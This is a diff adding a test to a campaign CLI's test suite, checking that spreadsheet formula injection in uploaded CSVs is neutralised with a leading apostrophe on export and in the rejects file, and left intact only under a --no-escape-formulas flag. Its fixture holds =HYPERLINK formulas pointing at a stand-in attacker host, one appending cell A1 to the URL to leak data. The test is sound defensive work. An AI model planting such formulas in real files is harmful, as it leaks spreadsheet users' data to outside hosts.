@@ -434,6 +434,46 @@ def test_export_to_stdout_and_to_a_file(
     assert not nowhere.parent.exists()
 
 
+def test_export_and_rejects_write_formulas_as_text(
+    campaign_command: list[str], cli_env: dict[str, str], tmp_path: Path
+) -> None:
+    """A formula in an uploaded file (=HYPERLINK…) reaches neither the export nor the rejects
+    file as a formula: the cell gets a leading '; the destination and a phone written as a
+    plain number stay as they are; --no-escape-formulas writes the cells as they were."""
+    uploaded = tmp_path / "uploaded.csv"
+    uploaded.write_text(
+        "name,phone,note\n"
+        'Ada,+1 415 555 0123,"=HYPERLINK(""http://evil.example/?""&A1,""open"")"\n'
+        '"@Bob",=HYPERLINK("http://evil.example"),x\n'
+    )
+    rejects = tmp_path / "rejects.csv"
+    loaded = run(
+        campaign_command, cli_env, "load", str(uploaded), "--name", "f", *LOAD_OPTIONS,
+        "--rejects", str(rejects),
+    )  # fmt: skip
+    assert loaded.returncode == 0, loaded.stderr
+    assert list(csv.reader(rejects.open(newline="")))[1][:2] == [
+        "3",
+        '\'=HYPERLINK("http://evil.example")',
+    ]
+    exported = run(campaign_command, cli_env, "export", "f")
+    assert exported.returncode == 0, exported.stderr
+    rows = list(csv.reader(io.StringIO(exported.stdout, newline="")))
+    ada = dict(zip(rows[0], rows[1], strict=True))
+    assert ada["note"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
+    assert (ada["destination"], ada["raw_destination"]) == ("+14155550123", "+1 415 555 0123")
+
+    verbatim = run(campaign_command, cli_env, "export", "f", "--no-escape-formulas")
+    rows = list(csv.reader(io.StringIO(verbatim.stdout, newline="")))
+    assert dict(zip(rows[0], rows[1], strict=True))["note"].startswith("=HYPERLINK(")
+    again = run(
+        campaign_command, cli_env, "load", str(uploaded), "--name", "g", *LOAD_OPTIONS,
+        "--rejects", str(rejects), "--no-escape-formulas",
+    )  # fmt: skip
+    assert again.returncode == 0, again.stderr
+    assert list(csv.reader(rejects.open(newline="")))[1][1] == '=HYPERLINK("http://evil.example")'
+
+
 def test_status_once_shows_counts_and_outcomes(
     campaign_command: list[str], cli_env: dict[str, str], numbers_csv: Path
 ) -> None:
